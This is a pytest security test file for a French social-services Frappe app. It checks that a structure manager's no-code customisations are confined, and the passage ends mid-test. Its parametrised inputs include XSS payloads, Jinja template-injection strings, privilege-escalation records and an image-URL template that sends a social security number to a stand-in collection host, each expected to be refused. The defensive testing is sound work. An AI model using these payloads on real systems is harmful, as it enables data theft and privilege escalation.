"""The Responsable de structure's no-code tools (suivi_social/personnalisation/).

They may shape the app's forms, letters, notifications, reports and figures; never a core DocType,
never anything that runs code, never another structure, never themselves into System Manager.

Adding a field alters the table: MariaDB commits on DDL, so those tests remove their fields and
columns themselves (fixture `champs_de_test`)."""

import json
from unittest.mock import patch

import frappe
import pytest

from suivi_social.exceptions import HorsStructure, PersonnalisationRefusee
from suivi_social.roles import ADMINISTRATEUR, AGENT_ACCUEIL, RESPONSABLE, TRAVAILLEUR_SOCIAL
from tests.conftest import as_user
from tests.factories import beneficiaire_values, make_user
from tests.securite.test_http import cles  # a fixture, used by name

PREFIXE = "custom_perso_test_"


def supprimer_les_champs_de_test() -> None:
	for cf in frappe.get_all(
		"Custom Field", filters={"fieldname": ("like", f"{PREFIXE}%")}, fields=["name", "dt", "fieldname"]
	):
		frappe.delete_doc("Custom Field", cf.name, ignore_permissions=True, force=True)
		if frappe.db.has_column(cf.dt, cf.fieldname):
			frappe.db.sql_ddl(f"alter table `tab{cf.dt}` drop column `{cf.fieldname}`")
		frappe.clear_cache(doctype=cf.dt)
	frappe.db.commit()


@pytest.fixture
def champs_de_test(monde):
	"""Custom fields named custom_perso_test_…, removed with their columns before and after."""
	supprimer_les_champs_de_test()
	yield
	frappe.db.rollback()
	frappe.set_user("Administrator")
	supprimer_les_champs_de_test()


@pytest.fixture(autouse=True)
def caches_des_metas():
	"""Property Setters are rolled back, but the metas cached in Redis while they existed are not."""
	yield
	frappe.db.rollback()
	for doctype in ("Beneficiaire", "Accompagnement", "User", "ToDo"):
		frappe.clear_cache(doctype=doctype)
	frappe.cache.delete_value("notifications")


def personnaliser(doctype: str, changer=None):
	"""What Customize Form does in the desk: load the DocType, change its rows, save."""
	formulaire = frappe.get_doc("Customize Form")
	formulaire.doc_type = doctype
	formulaire.fetch_to_customize()
	if changer:
		changer(formulaire)
	formulaire.save_customization()
	return formulaire


def ligne(formulaire, fieldname: str):
	return next(f for f in formulaire.fields if f.fieldname == fieldname)


def ajouter_champ(formulaire, nom: str, **proprietes) -> str:
	"""A new row, as the form builder adds it: Customize Form names the field after its label
	(« Perso test bailleur » → custom_perso_test_bailleur)."""
	formulaire.append(
		"fields",
		{"label": f"Perso test {nom}", "fieldtype": "Data", "is_custom_field": 1, **proprietes},
	)
	return f"{PREFIXE}{nom}"


# --- What the Responsable can do ------------------------------------------------------------------


def test_le_responsable_ajoute_un_champ_au_beneficiaire(monde, champs_de_test):
	fieldname = f"{PREFIXE}bailleur"
	with as_user(monde.resp_a):
		personnaliser("Beneficiaire", lambda f: ajouter_champ(f, "bailleur"))
		assert frappe.get_meta("Beneficiaire").get_field(fieldname).label == "Perso test bailleur"
		ben = frappe.get_doc("Beneficiaire", monde.ben_a.name)
		ben.set(fieldname, "Habitat 77")
		ben.save()
	assert frappe.db.get_value("Beneficiaire", monde.ben_a.name, fieldname) == "Habitat 77"
	assert (
		frappe.db.get_value("Custom Field", {"dt": "Beneficiaire", "fieldname": fieldname}, "owner")
		== monde.resp_a
	)


def test_le_responsable_renomme_un_libelle_et_reordonne(monde):
	with as_user(monde.resp_a):

		def changer(f):
			ligne(f, "nom_usage").label = "Nom d'usage (état civil)"
			# Moves « commune » first in the form.
			f.fields.insert(0, f.fields.pop(f.fields.index(ligne(f, "commune"))))

		personnaliser("Beneficiaire", changer)
	meta = frappe.get_meta("Beneficiaire", cached=False)
	assert meta.get_field("nom_usage").label == "Nom d'usage (état civil)"
	assert meta.fields[0].fieldname == "commune"


def test_le_responsable_enregistre_un_rapport(monde):
	from frappe.desk.reportview import save_report

	reglages = json.dumps({"fields": [["name", "Beneficiaire"], ["commune", "Beneficiaire"]], "filters": []})
	with as_user(monde.resp_a):
		nom = save_report("Dossiers par commune", "Beneficiaire", reglages)
	assert frappe.db.get_value("Report", nom, ["report_type", "ref_doctype"]) == (
		"Report Builder",
		"Beneficiaire",
	)


def test_le_responsable_cree_une_notification_de_sa_structure(monde):
	with as_user(monde.resp_a):
		notification = nouvelle_notification(monde.a).insert()
	assert notification.structure == monde.a


def test_le_responsable_cree_une_carte_et_un_graphique(monde):
	with as_user(monde.resp_a):
		carte = frappe.get_doc(
			{
				"doctype": "Number Card",
				"label": "Dossiers ouverts (test)",
				"document_type": "Beneficiaire",
				"function": "Count",
				"is_public": 1,
			}
		).insert()
		graphique = frappe.get_doc(
			{
				"doctype": "Dashboard Chart",
				"chart_name": "Accompagnements par mois (test)",
				"chart_type": "Count",
				"document_type": "Accompagnement",
				"based_on": "date",
				"timespan": "Last Year",
				"time_interval": "Monthly",
				"timeseries": 1,
				"type": "Bar",
				"filters_json": "[]",
			}
		).insert()
	assert carte.owner == graphique.owner == monde.resp_a


def test_le_responsable_cree_un_format_d_impression(monde):
	modele = (
		'<h1>{{ doc.nom_usage }} {{ doc.prenoms }}</h1><p>{{ _("Né(e) le") }} '
		"{{ frappe.utils.format_date(doc.date_naissance) }}</p><p>NIR : {{ doc.numero_securite_sociale }}</p>"
	)
	with as_user(monde.resp_a):
		format_ = frappe.get_doc(
			{
				"doctype": "Print Format",
				"name": "Attestation de suivi (test)",
				"doc_type": "Beneficiaire",
				"custom_format": 1,
				"print_format_type": "Jinja",
				"html": modele,
			}
		).insert()
	nir = frappe.db.get_value("Beneficiaire", monde.ben_a.name, "numero_securite_sociale")
	with as_user(monde.ts_a):
		assert nir in frappe.get_print("Beneficiaire", monde.ben_a.name, print_format=format_.name)
	# Printed by the Agent d'accueil, the confidential field is masked like in every print.
	with as_user(monde.acc_a):
		html = frappe.get_print("Beneficiaire", monde.ben_a.name, print_format=format_.name)
	assert "MARTIN" in html.upper() and nir not in html


def test_le_responsable_regle_la_liste_de_ses_dossiers(monde):
	from frappe.desk.doctype.list_view_settings.list_view_settings import save_listview_settings

	with as_user(monde.resp_a):
		save_listview_settings("Beneficiaire", {"disable_count": 1, "fields": "[]"}, [])
		assert frappe.db.get_value("List View Settings", "Beneficiaire", "disable_count") == 1
		with pytest.raises(frappe.PermissionError):
			save_listview_settings("ToDo", {"disable_count": 1, "fields": "[]"}, [])


# --- What the Responsable cannot do ---------------------------------------------------------------


@pytest.mark.parametrize(
	"valeurs",
	[
		{"doctype": "Server Script", "name": "x", "script_type": "API", "api_method": "x", "script": "pass"},
		{"doctype": "Client Script", "dt": "Beneficiaire", "script": "alert(1)", "enabled": 1},
		{
			"doctype": "Report",
			"report_name": "Requête",
			"ref_doctype": "Beneficiaire",
			"report_type": "Query Report",
			"query": "select 1",
		},
		{
			"doctype": "Report",
			"report_name": "Script",
			"ref_doctype": "Beneficiaire",
			"report_type": "Script Report",
			"report_script": "data = 1",
		},
		{
			"doctype": "Auto Email Report",
			"report": "Dossiers",
			"user": "resp-a@test.fr",
			"email_to": "x@exemple.fr",
		},
		{"doctype": "Data Import", "reference_doctype": "Beneficiaire", "import_type": "Insert New Records"},
		{
			"doctype": "Custom DocPerm",
			"parent": "User",
			"parenttype": "DocType",
			"parentfield": "permissions",
			"role": RESPONSABLE,
			"write": 1,
		},
		{
			"doctype": "User Permission",
			"user": "resp-a@test.fr",
			"allow": "Structure",
			"for_value": "CCAS Test B",
		},
		{"doctype": "Role", "role_name": "Tout pouvoir"},
		{
			"doctype": "Translation",
			"source_text": "Save",
			"translated_text": "<img src=x onerror=alert(1)>",
			"language": "fr",
		},
	],
	ids=lambda v: v["doctype"] + ("" if v["doctype"] != "Report" else " " + v["report_type"]),
)
def test_pas_de_code_ni_d_administration(monde, valeurs):
	with as_user(monde.resp_a):
		with pytest.raises(frappe.PermissionError):
			frappe.get_doc(valeurs).insert()


def test_pas_de_console_systeme(monde):
	from frappe.handler import run_doc_method

	with as_user(monde.resp_a):
		assert not frappe.has_permission("System Console", "read")
		with pytest.raises(frappe.PermissionError):
			run_doc_method("execute_code", dt="System Console", dn="System Console")


def test_le_controle_des_rapports_tient_sans_le_controle_de_permission(monde):
	"""Report Builder's save_report saves with ignore_permissions: the check holds without them."""
	from frappe.desk.reportview import save_report

	with as_user(monde.resp_a):
		for valeurs in (
			{"report_type": "Query Report"},
			{"report_type": "Script Report"},
			{"report_type": "Query Report", "query": "select name from tabUser"},
			{"report_type": "Report Builder", "javascript": "alert(1)"},
			{"report_type": "Report Builder", "ref_doctype": "ToDo"},
			{"report_type": "Custom Report", "reference_report": "Permitted Documents For User"},
		):
			rapport = frappe.get_doc(
				{"doctype": "Report", "report_name": "Contourné", "ref_doctype": "Beneficiaire", **valeurs}
			)
			with pytest.raises(PersonnalisationRefusee):
				rapport.insert(ignore_permissions=True)
		with pytest.raises(PersonnalisationRefusee, match="Tâche"):
			save_report("Mes tâches", "ToDo", json.dumps({"fields": [["name", "ToDo"]]}))


def test_enregistrer_sous_un_rapport_livre_par_l_application(monde):
	"""« Enregistrer sous » of a Script Report shipped by the app keeps its code: allowed."""
	from suivi_social.personnalisation.gardes import garder_rapport

	reference = frappe.get_all(
		"Report", filters={"is_standard": "Yes", "module": "Statistiques"}, pluck="name"
	)
	assert reference, "les rapports de Suivi social (module Statistiques) sont installés"
	with as_user(monde.resp_a):
		garder_rapport(
			frappe.get_doc(
				{
					"doctype": "Report",
					"report_name": "Mon activité",
					"report_type": "Custom Report",
					"reference_report": reference[0],
					"ref_doctype": frappe.db.get_value("Report", reference[0], "ref_doctype"),
				}
			)
		)


@pytest.mark.parametrize("doctype", ["User", "ToDo", "File"])
def test_pas_de_personnalisation_des_doctypes_du_coeur(monde, doctype):
	with as_user(monde.resp_a):
		formulaire = frappe.get_doc("Customize Form")
		formulaire.doc_type = doctype
		with pytest.raises(PersonnalisationRefusee, match="seuls les types de document de Suivi social"):
			formulaire.fetch_to_customize()
		with pytest.raises(PersonnalisationRefusee):
			formulaire.save_customization()
		for valeurs in (
			{
				"doctype": "Custom Field",
				"dt": doctype,
				"fieldname": f"{PREFIXE}x",
				"label": "X",
				"fieldtype": "Data",
			},
			{
				"doctype": "Property Setter",
				"doc_type": doctype,
				"doctype_or_field": "DocType",
				"property": "allow_copy",
				"value": "1",
			},
			{
				"doctype": "Print Format",
				"name": "Fiche (test)",
				"doc_type": doctype,
				"custom_format": 1,
				"html": "<p>x</p>",
			},
			{
				"doctype": "Number Card",
				"label": "Compte (test)",
				"document_type": doctype,
				"function": "Count",
			},
			{
				"doctype": "Notification",
				"subject": "Nouveau (test)",
				"document_type": doctype,
				"event": "New",
				"structure": monde.a,
				"channel": "System Notification",
				"message": "x",
			},
		):
			with pytest.raises(PersonnalisationRefusee):
				# Without the permission check: the rule holds by itself.
				frappe.get_doc(valeurs).insert(ignore_permissions=True)


def test_pas_de_modification_des_personnalisations_du_coeur(monde):
	"""The app's own field on File (permissions/fichiers.py) is a core customisation: not theirs."""
	champ = frappe.get_doc("Custom Field", {"dt": "File", "fieldname": "structure_rattachement"})
	with as_user(monde.resp_a):
		assert not champ.has_permission("delete")
		assert not champ.has_permission("write")
		with pytest.raises(frappe.PermissionError):
			frappe.delete_doc("Custom Field", champ.name)
		# The structure field the app adds to Notification: on a core DocType too.
		structure = frappe.get_doc("Custom Field", {"dt": "Notification", "fieldname": "structure"})
		assert not structure.has_permission("delete")


def test_pas_de_suppression_des_personnalisations_du_coeur(monde):
	"""What the System Manager customised on a core DocType: the manager may not delete it."""
	reglage = propriete(None, "allow_copy", "1", doctype="ToDo").insert()
	format_ = frappe.get_doc(
		{
			"doctype": "Print Format",
			"name": "Tâche (test)",
			"doc_type": "ToDo",
			"custom_format": 1,
			"html": "<p>x</p>",
		}
	).insert()
	with as_user(monde.resp_a):
		for doctype, name in (("Property Setter", reglage.name), ("Print Format", format_.name)):
			with pytest.raises(frappe.PermissionError):
				frappe.delete_doc(doctype, name)
	assert frappe.db.exists("Property Setter", reglage.name) and frappe.db.exists(
		"Print Format", format_.name
	)


def test_pas_de_system_manager_pour_soi(monde):
	from suivi_social.api import equipe
	from suivi_social.api.equipe import EquipeRefusee

	with as_user(monde.resp_a):
		# Their own profile: saved, but the roles table (permlevel 1) is put back as it was.
		moi = frappe.get_doc("User", monde.resp_a)
		moi.append("roles", {"role": "System Manager"})
		moi.save()
		assert "System Manager" not in frappe.get_roles(monde.resp_a)
		# Someone else's: refused.
		collegue = frappe.get_doc("User", monde.ts_a)
		collegue.append("roles", {"role": "System Manager"})
		with pytest.raises(frappe.PermissionError):
			collegue.save()
		with pytest.raises(frappe.PermissionError):
			frappe.get_doc(
				{
					"doctype": "Has Role",
					"parenttype": "User",
					"parentfield": "roles",
					"parent": monde.resp_a,
					"role": "System Manager",
				}
			).insert()
		# Through the REST insert of a child row: their own profile again, roles put back.
		frappe.client.insert(
			{
				"doctype": "Has Role",
				"parenttype": "User",
				"parentfield": "roles",
				"parent": monde.resp_a,
				"role": "System Manager",
			}
		)
		assert "System Manager" not in frappe.get_roles(monde.resp_a)
		with pytest.raises(EquipeRefusee):
			equipe.inviter_collegue(monde.a, monde.resp_a, "Moi", "Même", "System Manager")
	assert "System Manager" not in frappe.get_roles(monde.resp_a)
	assert "System Manager" not in frappe.get_roles(monde.ts_a)


def test_pas_d_utilisateur_hors_de_sa_structure(monde):
	from suivi_social.api import equipe
	from suivi_social.api.equipe import EquipeRefusee

	with as_user(monde.resp_a):
		with pytest.raises(frappe.PermissionError):
			frappe.get_doc({"doctype": "User", "email": "intrus@test.fr", "first_name": "Intrus"}).insert()
		with pytest.raises(EquipeRefusee):
			equipe.inviter_collegue(monde.b, "intrus@test.fr", "In", "Trus", TRAVAILLEUR_SOCIAL)
		with pytest.raises(EquipeRefusee):
			equipe.retirer_collegue(monde.b, monde.ts_b)
	assert not frappe.db.exists("User", "intrus@test.fr")


def test_pas_d_import_dans_une_autre_structure(monde):
	with as_user(monde.resp_a):
		with pytest.raises(frappe.PermissionError):
			frappe.get_doc(beneficiaire_values(monde.b, nom_usage="Import", prenoms="Intrus")).insert()
		with pytest.raises(frappe.PermissionError):
			frappe.get_doc({"doctype": "Data Import", "reference_doctype": "Beneficiaire"}).insert()


# --- Confidentiality cannot be lowered ------------------------------------------------------------


def test_un_champ_confidentiel_integre_ne_devient_pas_public(monde):
	with as_user(monde.resp_a):

		def rendre_public(f):
			ligne(f, "numero_securite_sociale").permlevel = 0

		with pytest.raises(PersonnalisationRefusee, match="ne peut pas être abaissé"):
			personnaliser("Beneficiaire", rendre_public)
		with pytest.raises(PersonnalisationRefusee):
			propriete("numero_securite_sociale", "permlevel", "0").insert(ignore_permissions=True)
	assert frappe.get_meta("Beneficiaire", cached=False).get_field("numero_securite_sociale").permlevel == 1


def test_rendre_confidentiel_oui_revenir_en_arriere_non(monde):
	"""Raising a built-in field's level hides more: allowed. Lowering it back is the System
	Manager's decision, also when Customize Form would delete the Property Setter without a hook."""
	with as_user(monde.resp_a):
		personnaliser("Beneficiaire", lambda f: setattr(ligne(f, "commune"), "permlevel", 1))
		assert frappe.get_meta("Beneficiaire", cached=False).get_field("commune").permlevel == 1
		with pytest.raises(PersonnalisationRefusee):
			personnaliser("Beneficiaire", lambda f: setattr(ligne(f, "commune"), "permlevel", 0))
		nom = frappe.db.get_value(
			"Property Setter", {"doc_type": "Beneficiaire", "field_name": "commune", "property": "permlevel"}
		)
		with pytest.raises(PersonnalisationRefusee):
			frappe.delete_doc("Property Setter", nom)
		with pytest.raises(PersonnalisationRefusee):
			formulaire = frappe.get_doc("Customize Form")
			formulaire.doc_type = "Beneficiaire"
			formulaire.fetch_to_customize()
			formulaire.reset_to_defaults()
	# The System Manager may.
	personnaliser("Beneficiaire", lambda f: setattr(ligne(f, "commune"), "permlevel", 0))
	assert frappe.get_meta("Beneficiaire", cached=False).get_field("commune").permlevel == 0


def propriete(fieldname: str, prop: str, value, doctype: str = "Beneficiaire"):
	return frappe.get_doc(
		{
			"doctype": "Property Setter",
			"doc_type": doctype,
			"doctype_or_field": "DocField" if fieldname else "DocType",
			"field_name": fieldname,
			"property": prop,
			"value": value,
		}
	)


@pytest.mark.parametrize(
	"fieldname, prop, value",
	[
		("structure", "ignore_user_permissions", "1"),
		("nom_usage", "ignore_xss_filter", "1"),
		("nom_usage", "in_global_search", "1"),
		("nom_usage", "unique", "1"),
		("nom_usage", "is_virtual", "1"),
		("commune", "fieldtype", "Code"),
		("nom_usage", "depends_on", "eval:fetch('/api/method/frappe.client.insert')"),
		("nom_usage", "description", "<img src=x onerror=alert(1)>"),
		("nom_usage", "label", "<b onmouseover=alert(1)>Nom</b>"),
		# Customize Form's own limits, which a Property Setter saved directly would skip: the
		# structure link must stay a mandatory link to Structure (permissions/structure.py).
		("structure", "options", "User"),
		("structure", "fieldtype", "Data"),
		("structure", "reqd", "0"),
		("age", "read_only", "0"),
		# A confidential field in the search would break the accueil's search (and answer it).
		("prenoms", "permlevel", "1"),
		(None, "autoname", "field:nom_usage"),
		(None, "make_attachments_public", "1"),
		(None, "track_changes", "0"),
		(None, "track_views", "0"),
		(None, "search_fields", "nom_usage,numero_securite_sociale"),
		(None, "title_field", "numero_securite_sociale"),
	],
)
def test_proprietes_reservees(monde, fieldname, prop, value):
	with as_user(monde.resp_a):
		with pytest.raises(PersonnalisationRefusee):
			propriete(fieldname, prop, value).insert(ignore_permissions=True)


def test_proprietes_permises(monde):
	with as_user(monde.resp_a):
		for fieldname, prop, value in (
			("nom_usage", "depends_on", "eval:doc.genre == 'Femme' || doc.statut != \"Clos\""),
			("nom_usage", "label", "Nom d'usage"),
			("commune", "in_standard_filter", "1"),
			(None, "search_fields", "nom_usage,commune"),
			(None, "sort_field", "modified"),
		):
			propriete(fieldname, prop, value).insert()


@pytest.mark.parametrize(
	"dt, valeurs",
	[
		("Accompagnement", {"fetch_from": "beneficiaire.numero_securite_sociale", "permlevel": 0}),
		("Accompagnement", {"fetch_from": "agent.reset_password_key", "permlevel": 1}),
		("Beneficiaire", {"is_virtual": 1, "options": "frappe.db.sql('select 1')"}),
		("Beneficiaire", {"fieldtype": "Table", "options": "Has Role"}),
		("Beneficiaire", {"fieldtype": "Code"}),
		("Beneficiaire", {"fieldtype": "HTML", "options": "<script>alert(1)</script>"}),
		("Beneficiaire", {"fieldtype": "HTML", "options": "{{ frappe.get_all('Beneficiaire') }}"}),
		("Beneficiaire", {"ignore_user_permissions": 1, "fieldtype": "Link", "options": "Structure"}),
		("Beneficiaire", {"in_global_search": 1}),
	],
)
def test_champs_personnalises_refuses(monde, dt, valeurs):
	with as_user(monde.resp_a):
		champ = frappe.get_doc(
			{
				"doctype": "Custom Field",
				"dt": dt,
				"fieldname": f"{PREFIXE}refuse",
				"label": "Refusé",
				"fieldtype": "Data",
				**valeurs,
			}
		)
		with pytest.raises(PersonnalisationRefusee):
			champ.insert(ignore_permissions=True)


def test_copie_d_un_champ_confidentiel_dans_un_champ_confidentiel(monde):
	from suivi_social.personnalisation.gardes import verifier_definition_de_champ

	with as_user(monde.resp_a):
		verifier_definition_de_champ(
			"Accompagnement",
			frappe._dict(
				fieldname="x",
				fieldtype="Data",
				fetch_from="beneficiaire.numero_securite_sociale",
				permlevel=1,
			),
		)


def test_un_champ_existant_modifie_par_personnaliser_le_formulaire(monde, champs_de_test):
	"""Customize Form updates an existing custom field with db_update(), which runs no hook."""
	fieldname = f"{PREFIXE}copie"
	with as_user(monde.resp_a):
		personnaliser("Accompagnement", lambda f: ajouter_champ(f, "copie", permlevel=1))

		def copier_le_nir(f):
			ligne(f, fieldname).fetch_from = "beneficiaire.numero_securite_sociale"
			ligne(f, fieldname).permlevel = 0

		with pytest.raises(PersonnalisationRefusee):
			personnaliser("Accompagnement", copier_le_nir)
		with pytest.raises(PersonnalisationRefusee):
			personnaliser("Accompagnement", lambda f: setattr(ligne(f, fieldname), "ignore_xss_filter", 1))
	assert not frappe.db.get_value("Custom Field", {"fieldname": fieldname}, "fetch_from")


def test_personnaliser_le_formulaire_reserve_le_nom_et_les_actions(monde):
	with as_user(monde.resp_a):
		with pytest.raises(PersonnalisationRefusee, match="traduit"):
			personnaliser("Beneficiaire", lambda f: setattr(f, "label", "Usager"))

		def action_serveur(f):
			f.append(
				"actions", {"label": "Tout", "action_type": "Server Action", "action": "frappe.client.delete"}
			)

		with pytest.raises(PersonnalisationRefusee, match="actions serveur"):
			personnaliser("Beneficiaire", action_serveur)
		formulaire = frappe.get_doc("Customize Form")
		formulaire.doc_type = "Beneficiaire"
		formulaire.fetch_to_customize()
		with pytest.raises(PersonnalisationRefusee, match="colonnes"):
			formulaire.trim_table()


# --- Templates, notifications, cards -----------------------------------------------------------


@pytest.mark.parametrize(
	"modele",
	[
		'{{ frappe.db.sql("select name from tabUser") }}',
		'{{ frappe.get_all("Beneficiaire", fields=["numero_securite_sociale"]) }}',
		'{{ frappe.db.set_value("Has Role", "x", "role", "System Manager") }}',
		'{{ doc.db_set("structure", "CCAS Test B") }}',
		"{{ frappe.request.cookies }}",
		'{% include "templates/emails/password_reset.html" %}',
		"<script>alert(1)</script>",
		"<img src=x onerror=alert(1)>",
		'<a href="javascript:alert(1)">x</a>',
		'<img src="https://collecte.exemple/?n={{ doc.numero_securite_sociale }}">',
		'{% set u = "https://collecte.exemple/" ~ doc.nom_usage %}<img src="{{ u }}">',
		'{{ (doc|attr("save"))() }}',
		"{{ ().__class__.__mro__ }}",
		'{{ "<scr" ~ "ipt>alert(1)</scr" ~ "ipt>" }}',
	],
)
def test_modeles_refuses(monde, modele):
	with as_user(monde.resp_a):
		format_ = frappe.get_doc(
			{
				"doctype": "Print Format",
				"name": "Piégé (test)",
				"doc_type": "Beneficiaire",
				"custom_format": 1,
				"html": modele,
			}
		)
		with pytest.raises(PersonnalisationRefusee):
			format_.insert(ignore_permissions=True)


def test_formats_d_impression_qui_executent_du_code(monde):
	with as_user(monde.resp_a):
		for valeurs in (
			{"print_format_type": "JS", "html": "<p>{%= doc.name %}</p>"},
			{"raw_printing": 1, "raw_commands": "{{ doc.name }}"},
			{"css": "</style><script>alert(1)</script>"},
			{
				"print_format_builder": 1,
				"custom_format": 0,
				"format_data": json.dumps([{"fieldtype": "HTML", "options": "{{ frappe.get_all('User') }}"}]),
			},
			{
				"print_format_builder": 1,
				"custom_format": 0,
				"format_data": json.dumps(
					[{"fieldtype": "Section Break", "label": "<img src=x onerror=alert(1)>"}]
				),
			},
		):
			format_ = frappe.get_doc(
				{
					"doctype": "Print Format",
					"name": "Code (test)",
					"doc_type": "Beneficiaire",
					"custom_format": 1,
					"html": "<p>x</p>",
					**valeurs,
				}
			)
			with pytest.raises(PersonnalisationRefusee):
				format_.insert(ignore_permissions=True)


def nouvelle_notification(de_la_structure: str | None, **valeurs):
	valeurs.setdefault("structure", de_la_structure)
	return frappe.get_doc(
		{
			"doctype": "Notification",
			"subject": "Nouveau dossier (test)",
			"document_type": "Beneficiaire",
			"event": "New",
			"channel": "Email",
			"message": "Nouveau dossier {{ doc.name }} pour {{ doc.nom_usage }}",
			"recipients": [{"receiver_by_role": TRAVAILLEUR_SOCIAL, "cc": "externe@exemple.fr"}],
			**valeurs,
		}
	)


@pytest.mark.parametrize(
	"valeurs",
	[
		{"channel": "Slack"},
		{"channel": "SMS"},
		{"condition": "doc.db_set('nom_usage', 'X') or True"},
		{"message": "{{ frappe.get_all('Beneficiaire', fields=['numero_securite_sociale']) }}"},
		{"subject": "{{ frappe.session.csrf_token }}"},
		{"recipients": [{"receiver_by_role": TRAVAILLEUR_SOCIAL, "condition": "frappe.db.sql('select 1')"}]},
	],
)
def test_notifications_refusees(monde, valeurs):
	with as_user(monde.resp_a):
		with pytest.raises(PersonnalisationRefusee):
			nouvelle_notification(monde.a, **valeurs).insert(ignore_permissions=True)


def test_notification_toujours_rattachee_a_une_structure(monde):
	from suivi_social.personnalisation.gardes import garder_notification

	with as_user(monde.resp_a):
		# The structure is pre-filled from the manager's default User Permission…
		notification = nouvelle_notification(None).insert()
		assert notification.structure == monde.a
		# …and cannot be left empty.
		notification.structure = None
		with pytest.raises(PersonnalisationRefusee, match="indiquez la structure"):
			garder_notification(notification)


def test_notification_pour_une_autre_structure_refusee(monde):
	with as_user(monde.resp_a):
		with pytest.raises(frappe.PermissionError):
			nouvelle_notification(monde.b).insert()
		# Without the permission check, the structure guard (permissions/structure.py) holds.
		with pytest.raises(HorsStructure):
			nouvelle_notification(monde.b).insert(ignore_permissions=True)


def test_notification_d_une_structure_reservee_a_ses_responsables(monde):
	with as_user(monde.resp_a):
		notification = nouvelle_notification(monde.a).insert()
	with as_user(monde.resp_b):
		assert not frappe.has_permission("Notification", "write", notification.name)
		assert notification.name not in frappe.get_list("Notification", pluck="name")


def creer_dossier(user: str, structure: str, nom: str):
	with as_user(user):
		return frappe.get_doc(beneficiaire_values(structure, nom_usage=nom, prenoms="Test")).insert()


def envois(mock_sendmail) -> list[set[str]]:
	return [
		set(appel.kwargs["recipients"]) | set(appel.kwargs["cc"]) for appel in mock_sendmail.call_args_list
	]


def test_notification_de_a_jamais_pour_un_dossier_de_b(monde):
	with as_user(monde.resp_a):
		nouvelle_notification(monde.a).insert()
	with patch("frappe.sendmail") as sendmail:
		creer_dossier(monde.ts_b, monde.b, "Notifb")
		assert not sendmail.called
		creer_dossier(monde.ts_a, monde.a, "Notifa")
	[destinataires] = envois(sendmail)
	# The role's users of structure A only; the typed address is no user: dropped.
	assert {monde.ts_a, monde.ts_a2} <= destinataires
	assert monde.ts_b not in destinataires and "externe@exemple.fr" not in destinataires


def test_notification_sans_structure_envoie_a_qui_peut_lire(monde):
	"""The System Manager's site-wide notification: each structure's document to its own users."""
	nouvelle_notification(None).insert()
	with patch("frappe.sendmail") as sendmail:
		creer_dossier(monde.ts_b, monde.b, "Sitewideb")
		creer_dossier(monde.ts_a, monde.a, "Sitewidea")
	pour_b, pour_a = envois(sendmail)
	assert monde.ts_b in pour_b and monde.ts_a not in pour_b
	assert monde.ts_a in pour_a and monde.ts_b not in pour_a


def test_notification_du_system_manager_filtree_comme_les_autres(monde):
	"""A System Manager (a real one, not Administrator) escapes the manager's guards: no structure,
	any template. Not the filter of recipients (personnalisation/notification.py): by e-mail and in
	the app, each structure's file goes to its own readers only, the NIR only to those who read it,
	and a typed address that is no user is dropped."""
	system_manager = make_user("sm-notification@test.fr", "System Manager")
	destinataires = [
		{"receiver_by_role": TRAVAILLEUR_SOCIAL, "cc": "externe@exemple.fr"},
		{"receiver_by_role": AGENT_ACCUEIL},
	]
	with as_user(system_manager):
		for canal in ("Email", "System Notification"):
			notification = nouvelle_notification(
				None,
				subject=f"NIR {canal} (test)",
				channel=canal,
				message="NIR : {{ doc.numero_securite_sociale }}",
				recipients=destinataires,
			).insert()
			assert not notification.structure and notification.owner == system_manager
	with patch("frappe.sendmail") as sendmail:
		b = creer_dossier(monde.ts_b, monde.b, "Smnotifb")
		a = creer_dossier(monde.ts_a, monde.a, "Smnotifa")
	pour_b, pour_a = envois(sendmail)
	dans_l_application = {
		nom: set(
			frappe.get_all(
				"Notification Log",
				filters={"document_name": nom, "subject": "NIR System Notification (test)"},
				pluck="for_user",
			)
		)
		for nom in (a.name, b.name)
	}
	for envoyes in (pour_a, dans_l_application[a.name]):
		assert {monde.ts_a, monde.ts_a2} <= envoyes
		assert not {monde.ts_b, monde.acc_a, "externe@exemple.fr"} & envoyes
	for envoyes in (pour_b, dans_l_application[b.name]):
		assert monde.ts_b in envoyes
		assert not {monde.ts_a, monde.ts_a2, monde.acc_a, "externe@exemple.fr"} & envoyes


def test_notification_ne_montre_pas_un_champ_confidentiel_a_l_accueil(monde):
	"""Everyone with the role reads the file; only those who read its confidential fields get a
	message that shows one."""
	destinataires = [{"receiver_by_role": TRAVAILLEUR_SOCIAL}, {"receiver_by_role": AGENT_ACCUEIL}]
	with as_user(monde.resp_a):
		nouvelle_notification(monde.a, subject="Public (test)", recipients=destinataires).insert()
		nouvelle_notification(
			monde.a,
			subject="NIR (test)",
			message="NIR : {{ doc.numero_securite_sociale }}",
			recipients=destinataires,
		).insert()
	with patch("frappe.sendmail") as sendmail:
		creer_dossier(monde.ts_a, monde.a, "Confidentiel")
	envoyes = {appel.kwargs["subject"]: set(appel.kwargs["recipients"]) for appel in sendmail.call_args_list}
	assert monde.acc_a in envoyes["Public (test)"]
	assert monde.acc_a not in envoyes["NIR (test)"] and monde.ts_a in envoyes["NIR (test)"]


def test_notification_dans_l_application_et_par_date(monde):
	with as_user(monde.resp_a):
		notification = nouvelle_notification(
			monde.a,
			channel="System Notification",
			event="Days After",
			date_changed="creation",
			days_in_advance=0,
		).insert()
	a = creer_dossier(monde.ts_a, monde.a, "Jourj")
	b = creer_dossier(monde.ts_b, monde.b, "Jourjb")
	documents = {d.name for d in frappe.get_doc("Notification", notification.name).get_documents_for_today()}
	assert a.name in documents and b.name not in documents
	frappe.get_doc("Notification", notification.name).send(b)
	frappe.get_doc("Notification", notification.name).send(a)
	logs = frappe.get_all(
		"Notification Log",
		filters={"subject": "Nouveau dossier (test)"},
		fields=["for_user", "document_name"],
	)
	assert {log.document_name for log in logs} == {a.name}
	assert monde.ts_a in {log.for_user for log in logs} and monde.ts_b not in {log.for_user for log in logs}


def test_cartes_et_graphiques_calcules_pour_qui_les_regarde(monde):
	"""A card and a chart made by A's manager, opened by B's: B's figures, as frappe.get_list gives."""
	from frappe.desk.doctype.dashboard_chart.dashboard_chart import get as donnees_du_graphique
	from frappe.desk.doctype.number_card.number_card import get_result

	with as_user(monde.resp_a):
		carte = frappe.get_doc(
			{
				"doctype": "Number Card",
				"label": "Dossiers (test)",
				"document_type": "Beneficiaire",
				"function": "Count",
				"is_public": 1,
			}
		).insert()
		graphique = frappe.get_doc(
			{
				"doctype": "Dashboard Chart",
				"chart_name": "Dossiers par structure (test)",
				"chart_type": "Group By",
				"document_type": "Beneficiaire",
				"group_by_type": "Count",
				"group_by_based_on": "structure",
				"is_public": 1,
				"type": "Bar",
				"filters_json": "[]",
